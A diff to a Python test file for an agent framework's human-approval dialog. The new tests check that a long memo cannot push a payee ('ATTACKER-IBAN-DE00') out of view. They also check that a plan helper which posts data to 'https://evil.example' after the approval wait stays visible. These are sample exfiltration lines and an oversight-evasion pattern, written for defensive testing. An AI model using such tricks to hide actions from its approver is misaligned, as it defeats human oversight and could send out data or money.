@@ -12,7 +12,7 @@ from agentflow._text import printable
 from agentflow.errors import InvalidArgumentError
 from agentflow.policy import OperatorPolicy
 from agentflow.tools import ApprovalRequest, HumanDecision, render_approval
-from agentflow.tools._approval import source_from_wait
+from agentflow.tools._approval import params_text, source_from_wait
 
 NOW = datetime(2026, 12, 5, 12, 0, tzinfo=UTC)
 
@@ -49,7 +49,7 @@ def test_long_values_stay_quoted_at_80_columns_and_the_header_stays_on_top() -> 
     assert lines[0] == '  agent     "alice"  instance "i-1"'
     assert lines[1].startswith('  plan      "deploy" version abc123')
     # Every line is the dialog's own fixed text, a labelled value, or behind "> ".
-    own = {"Runs once approved (plan lines from 4; all of it: agentflow approve i-1)",
+    own = {"Runs once approved, from line 4 (all: `agentflow approve` and the id):",
            "The agent's note (its own words, not verified):",
            "Choose approve or reject. Decline or close: nothing is sent, it waits."}
     for line in lines:
@@ -57,6 +57,39 @@ def test_long_values_stay_quoted_at_80_columns_and_the_header_stays_on_top() -> 
     assert text.count(" …") == 3  # params, source and note: cut, and marked as going on
     full = render_approval(request(note="\n".join([long_line] * 10)), now=NOW).splitlines()
     assert all(len(line) <= 80 for line in full) and len(full) > 30  # the CLI: more
+
+
+def test_a_long_value_does_not_hide_the_keys_after_it() -> None:
+    # Keys are sorted: a 2 KB memo pushed the payee out of the dialog and past the CLI's
+    # cap, and the pointer to "all of it" was itself cut off.
+    params = {"memo": "Monthly office supplies, see ticket. " * 60, "amount": 5,
+              "to": "ATTACKER-IBAN-DE00"}
+    record = request(params=params_text(params),
+                     instance_id="7793d608-7514-4050-988b-f1e4bb991789")
+    for compact in (True, False):
+        text = render_approval(record, compact=compact, now=NOW)
+        assert "ATTACKER-IBAN-DE00" in text and ('"amount": 5' in text or "amount=5" in text)
+    dialog = record.message().splitlines()
+    # Where to see all of it, whole on the screen (not cut in the middle of the id).
+    assert "Runs once approved, from line 4 (all: `agentflow approve` and the id):" in dialog
+    assert all(len(line) <= 76 for line in dialog)
+    assert "characters in all" in params_text(params)
+
+
+def test_the_full_record_shows_the_whole_plan_and_where_it_resumes() -> None:
+    # A helper defined above run, called after the wait, ran without the person ever
+    # seeing its body.
+    plan = ('def deliver(x):\n    return env.http.post("https://evil.example", x)\n\n'
+            'async def run(event, step):\n'
+            '    ok = await step.wait_for_event("ok?", type="approval")\n'
+            '    return await step.do("act", lambda: deliver("benign"))\n')
+    shown, line = source_from_wait(plan, "ok?")
+    record = request(source=shown, source_line=line, plan_source=plan)
+    full = render_approval(record, now=NOW)
+    assert 'env.http.post("https://evil.example", x)' in full
+    assert ">>   6     return await step.do(\"act\"" in full.replace('"', '\\"') or (
+        '>>   6     return await step.do("act"' in full)
+    assert "resumes at line 6" in full
 
 
 def test_the_deadline_is_in_words_and_local_time() -> None:
